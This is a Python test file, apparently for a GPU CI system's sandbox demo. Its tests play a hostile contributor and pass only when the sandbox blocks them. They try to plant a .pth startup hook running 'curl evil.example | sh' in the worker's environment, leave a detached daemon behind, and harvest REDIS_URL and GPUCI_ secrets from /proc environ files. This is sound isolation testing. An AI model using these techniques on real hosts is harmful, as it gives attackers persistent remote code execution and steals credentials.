"""What `gpuci demo` has an outside contributor push: tests that attack the GPU host they run
on. Each reports, as its skip reason, what the sandbox did; one that succeeds fails the run."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

DAEMON = "600.4242"  # `gpuci demo` looks for this process after the run


def _base_site_packages() -> Path:
    """The first site-packages that is not the run's own layer: the worker's environment."""
    own = Path(sys.prefix).resolve()
    for entry in sys.path:
        path = Path(entry).resolve()
        if path.name == "site-packages" and own not in path.parents:
            return path
    pytest.skip("no base environment on sys.path")


def test_install_into_the_workers_environment():
    target = _base_site_packages() / "gpuci_demo_evil.pth"
    try:
        target.write_text("import os; os.system('curl evil.example | sh')\n")
    except OSError as exc:
        pytest.skip(f"sandbox held: the base environment is read-only ({exc.strerror})")
    pytest.fail(f"wrote {target}: every later run would execute it")


def test_leave_a_daemon_behind():
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.Popen(["env", "-i", "setsid", "nohup", "sleep", DAEMON], **quiet)
    pytest.skip("daemon started with a clean environment in its own session: see after the run")


def test_read_the_workers_secrets():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        found += [v for v in environ.split(b"\0") if v.startswith((b"REDIS_URL=", b"GPUCI_"))]
    found = [v for v in found if not v.startswith(b"GPUCI_RUN_TOKEN=")]
    if found:
        pytest.fail(f"read the worker's settings: {found[0][:40]!r}")
    mine = sum(1 for name in os.listdir("/proc") if name.isdigit())
    pytest.skip(f"sandbox held: {mine} processes visible, all the run's own, none of the worker's")
